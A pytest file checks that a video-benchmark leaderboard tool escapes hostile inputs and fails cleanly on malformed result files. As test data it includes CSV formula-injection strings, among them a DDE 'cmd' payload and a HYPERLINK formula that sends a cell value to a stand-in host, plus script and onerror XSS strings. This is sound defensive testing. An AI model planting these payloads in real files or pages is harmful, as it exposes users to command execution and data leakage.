"""Hostile inputs to ``vidbench leaderboard`` and ``vidbench check`` (issue 14): names that
try to inject formulas (CSV), markup (markdown, HTML), LaTeX commands or mathtext; result
files built to crash the loader (huge numbers, deep nesting, folders, FIFOs, bad UTF-8,
values near the float limit); output paths that cannot be written; absurd ``--n-boot``.

Every one must end in either a correct output or a one-line error with exit 2; ``check``
uses exit 1 for a regression only (a non-finite value counts as one), never for a crash."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess

import pytest

from vidbench.cli import main as vidbench_main
from vidbench.leaderboard.cli import build_leaderboard
from vidbench.leaderboard.escape import csv_cell, md_escape, tex_escape
from vidbench.leaderboard.testing import metric_entry, write_from_values, write_result

FORMULAS = ['=HYPERLINK("//evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _run(capsys, *argv: str) -> tuple[int, str, str]:
    rc = vidbench_main(list(argv))
    out, err = capsys.readouterr()
    return rc, out, err


def _one_line_error(rc: int, err: str) -> None:
    assert rc == 2, err
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("vidbench: "), err
    assert "Traceback" not in err


# ------------------------------------------------------------------ CSV formula injection

def test_csv_cells_from_names_are_text_in_a_spreadsheet(tmp_path):
    paths = [write_from_values(tmp_path / f"m{i}", name, {"=1+1": [0.5, 0.6, 0.7],
                                                          "ok": [0.1, 0.2, 0.3]})
             for i, name in enumerate(FORMULAS)]
    info = build_leaderboard(paths, tmp_path / "out", formats=("csv",), plots=False)
    text = open(info["files"]["csv"], encoding="utf-8", newline="").read()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) >= len(FORMULAS)
    for row in rows:
        for cell in row:
            try:
                float(cell)
                continue  # a number (including "-0.5") is data, not a formula
            except ValueError:
                pass
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert all(len(r) == len(header) for r in body)  # a \r in a name did not end a row
    models = {r[header.index("model")] for r in body}
    assert {"'" + n.replace("\t", " ").replace("\r", " ") for n in FORMULAS} <= models
    assert csv_cell(-0.5) == -0.5 and csv_cell("model") == "model"


# ------------------------------------------------------------------ markdown injection

_PIPE = re.compile(r"(?<!\\)\|")


def test_markdown_fields_cannot_break_the_table_or_inject(tmp_path):
    bad_metric = "x|y\nz"
    bad_mode = "default\n## injected <img src=x onerror=alert(1)>"
    p = write_result(tmp_path / "a", "# heading? <script>alert(1)</script>", {
        bad_metric: metric_entry([0.1, 0.2, 0.3], mode=bad_mode),
        "fine": metric_entry([0.4, 0.5, 0.6])}, {bad_metric: [0.1, 0.2, 0.3]})
    q = write_result(tmp_path / "b", "- [link](javascript:alert(1)) `code` *b* _i_",
                     {bad_metric: metric_entry([0.2, 0.3, 0.4], mode=bad_mode),
                      "fine": metric_entry([0.1, 0.2, 0.3])})
    info = build_leaderboard([p, q], tmp_path / "out", formats=("md",), plots=False)
    md = open(info["files"]["md"], encoding="utf-8").read()
    assert "<img" not in md and "<script" not in md
    for line in md.splitlines():
        assert not line.startswith("## injected")
        assert not re.match(r"#+ heading", line)
    # every table row has exactly as many (unescaped) cell separators as its header
    blocks = re.findall(r"((?:^\|.*\n)+)", md, flags=re.M)
    assert blocks
    for block in blocks:
        counts = {len(_PIPE.findall(ln)) for ln in block.splitlines()}
        assert len(counts) == 1, block
    assert "\\[link\\]" in md  # no live link
    assert md_escape("a\nb\rc\u2028d") == "a b c d"


# ------------------------------------------------------------------ LaTeX

NAMES_TEX = ["[10cm] bracket", "[x] y", "a\nb", "100% & $x^2$ #1 ~ \\bad{}", "under_score"]


def test_latex_rows_cannot_be_read_as_commands(tmp_path):
    paths = [write_from_values(tmp_path / f"m{i}", name, {"s": [0.1 * (i + 1), 0.2, 0.3]})
             for i, name in enumerate(NAMES_TEX)]
    info = build_leaderboard(paths, tmp_path / "out", formats=("tex",), plots=False)
    tex = open(info["files"]["tex"], encoding="utf-8").read()
    body = tex.split(r"\midrule")[1].split(r"\bottomrule")[0]
    rows = [ln for ln in body.splitlines() if ln.strip()]
    assert len(rows) == len(NAMES_TEX)  # a newline in a name did not split a row
    for ln in rows:
        assert ln.endswith(r"\\") and not ln.lstrip().startswith("[")
    assert "{[}10cm{]} bracket" in tex and r"100\% \& \$x\^{}2\$ \#1" in tex
    assert tex_escape("a\nb") == "a b"
    if shutil.which("pdflatex") is None:
        pytest.skip("pdflatex not installed: escaping checked, compilation not")
    doc = tmp_path / "doc.tex"
    doc.write_text("\\documentclass{article}\\usepackage[utf8]{inputenc}"
                   "\\usepackage{booktabs}\\begin{document}\n" + tex + "\\end{document}\n")
    r = subprocess.run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", doc.name],
                       cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stdout[-2000:]


# ------------------------------------------------------------------ matplotlib mathtext

def test_mathtext_in_a_model_name_does_not_crash_the_plots(tmp_path):
    paths = [write_from_values(tmp_path / f"m{i}", name, {
        "a": [0.1 + i / 10, 0.2, 0.3], "b": [0.3, 0.2 + i / 10, 0.1],
        "c": [0.5, 0.5, 0.4 + i / 10]}) for i, name in enumerate(
            ["run$_$1", r"$\frac{1}{0}$", "x^{$"])]
    info = build_leaderboard(paths, tmp_path / "out", formats=("md", "csv", "html"))
    assert set(info["files"]) >= {"md", "csv", "html"}
    assert "bars" in info["plots"] and "radar" in info["plots"]


# ------------------------------------------------------------------ hostile result files

def _hostile_results(tmp_path):
    """name -> path of a result.json built to break the loader."""
    good = write_from_values(tmp_path / "good", "m", {"s": [0.1, 0.2, 0.3]})
    base = json.loads(good.read_text())
    out = {}

    def put(name, text):
        d = tmp_path / name
        d.mkdir()
        (d / "result.json").write_text(text)
        out[name] = d / "result.json"

    put("digits400", json.dumps(base).replace('"n": 3', '"n": 3' + "0" * 400, 1))
    d = dict(base)
    d["metrics"] = {"s": dict(base["metrics"]["s"], value="@@")}
    put("float400", json.dumps(d).replace('"@@"', "1" + "0" * 400))
    put("digits5000", json.dumps(d).replace('"@@"', "9" * 5000))
    put("nested", '{"schema": "vidbench.result/1", "model": "m", "metrics": '
        + "[" * 100000 + "]" * 100000 + "}")
    (tmp_path / "dir" / "result.json").mkdir(parents=True)
    out["directory"] = tmp_path / "dir" / "result.json"
    bad_utf8 = tmp_path / "utf8"
    shutil.copytree(good.parent, bad_utf8)
    (bad_utf8 / "videos.jsonl").write_bytes(b'{"video": "\xff\xfe", "scores": {}}\n')
    out["videos_not_utf8"] = bad_utf8 / "result.json"
    fifo = tmp_path / "fifo"
    fifo.mkdir()
    os.mkfifo(fifo / "result.json")
    out["fifo"] = fifo / "result.json"
    long_name = dict(base, model="m" * 100000)
    put("long_name", json.dumps(long_name))
    return good, out


@pytest.mark.parametrize("case", ["digits400", "float400", "digits5000", "nested",
                                  "directory", "videos_not_utf8", "fifo", "long_name"])
def test_hostile_result_is_a_one_line_error(tmp_path, capsys, case):
    good, bad = _hostile_results(tmp_path)
    p = str(bad[case])
    rc, _, err = _run(capsys, "leaderboard", p, str(good), "--out", str(tmp_path / "lb"),
                      "--no-plots")
    _one_line_error(rc, err)
    assert not (tmp_path / "lb" / "leaderboard.md").exists()  # nothing half-written
    rc, out, err = _run(capsys, "check", p, "--baseline", str(good))
    assert rc == 2 and "Traceback" not in err  # cannot compare: never 0, never 1
    rc, out, err = _run(capsys, "check", str(good), "--baseline", p)
    assert rc == 2 and "Traceback" not in err


def test_value_near_the_float_limit_does_not_crash(tmp_path, capsys):
    big = {"s": metric_entry(value=1e308, ci95=(-1e308, 1e308)),
           "t": metric_entry(value=-1e308, ci95=(-1e308, 1e308))}
    paths = [write_result(tmp_path / f"m{i}", f"m{i}", big, {"s": [1e308, 1e308]})
             for i in range(3)]
    rc, out, err = _run(capsys, "leaderboard", *map(str, paths), "--out",
                        str(tmp_path / "lb"), "--format", "md,csv,html,tex")
    assert rc in (0, 2) and "Traceback" not in err
    if rc == 2:
        _one_line_error(rc, err)
    else:
        assert (tmp_path / "lb" / "leaderboard.html").exists()
    rc, out, err = _run(capsys, "check", str(paths[0]), "--baseline", str(paths[1]))
    assert rc in (0, 2) and "Traceback" not in err


@pytest.mark.parametrize("literal", ["NaN", "-Infinity", "Infinity"])
def test_non_finite_result_fails_the_gate(tmp_path, capsys, literal):
    good = write_from_values(tmp_path / "b", "m", {"s": [0.5, 0.6, 0.7, 0.8]})
    d = json.loads(good.read_text())
    d["metrics"]["s"]["value"] = "@@"
    (tmp_path / "r").mkdir()
    bad = tmp_path / "r" / "result.json"
    bad.write_text(json.dumps(d).replace('"@@"', literal))
    rc, out, _ = _run(capsys, "check", str(bad), "--baseline", str(good))
    assert rc == 1 and "non-finite" in out
    rc, out, _ = _run(capsys, "check", str(good), "--baseline", str(bad))
    assert rc == 2


# ------------------------------------------------------------------ paths and flags

def test_unwritable_outputs_are_exit_2(tmp_path, capsys):
    good = write_from_values(tmp_path / "g", "m", {"s": [0.1, 0.2, 0.3]})
    afile = tmp_path / "afile"
    afile.write_text("x")
    for junit in ("/proc/nope/x.xml", str(afile / "x.xml")):
        rc, out, err = _run(capsys, "check", str(good), "--baseline", str(good),
                            "--junit", junit)
        _one_line_error(rc, err)
    for out_dir in ("/etc/passwd/x", str(afile / "x")):
        rc, out, err = _run(capsys, "leaderboard", str(good), "--out", out_dir)
        _one_line_error(rc, err)
    assert afile.read_text() == "x"


def test_n_boot_is_bounded(tmp_path, capsys):
    good = write_from_values(tmp_path / "g", "m", {"s": [0.1, 0.2, 0.3]})
    for n in ("100000000000", "5", "-1"):
        rc, out, err = _run(capsys, "check", str(good), "--baseline", str(good),
                            "--n-boot", n)
        _one_line_error(rc, err)


def test_a_crash_in_check_is_exit_2_not_regression(tmp_path, capsys, monkeypatch):
    import vidbench.leaderboard.check as chk

    def boom(*a, **k):
        raise RuntimeError("simulated bug")

    monkeypatch.setattr(chk, "check", boom)
    good = write_from_values(tmp_path / "g", "m", {"s": [0.1, 0.2, 0.3]})
    rc, out, err = _run(capsys, "check", str(good), "--baseline", str(good))
    _one_line_error(rc, err)
    assert "simulated bug" in err


def test_control_characters_and_lone_surrogates_in_names(tmp_path, capsys):
    """JSON can spell characters that no UTF-8/XML file can hold ("\\ud800", "\\u0000"):
    every output is still written, valid, and check's JUnit XML parses."""
    import xml.etree.ElementTree as ET

    name = "evil\ud800\u0000\x1b[31m"
    paths = []
    for i in range(2):
        p = write_from_values(tmp_path / f"m{i}", f"{name}{i}", {name: [0.5, 0.6, 0.7]})
        # write_from_values emits JSON escapes (ensure_ascii), like a hostile tool would
        paths.append(p)
    rc, out, err = _run(capsys, "leaderboard", *map(str, paths), "--out", str(tmp_path / "o"),
                        "--format", "md,csv,html,tex")
    assert rc == 0, err
    for f in ("leaderboard.md", "leaderboard.csv", "leaderboard.html", "leaderboard.tex"):
        (tmp_path / "o" / f).read_text(encoding="utf-8")  # valid UTF-8
    junit = tmp_path / "j.xml"
    rc, out, err = _run(capsys, "check", str(paths[0]), "--baseline", str(paths[1]),
                        "--junit", str(junit))
    assert rc in (0, 2) and "Traceback" not in err
    ET.parse(junit)
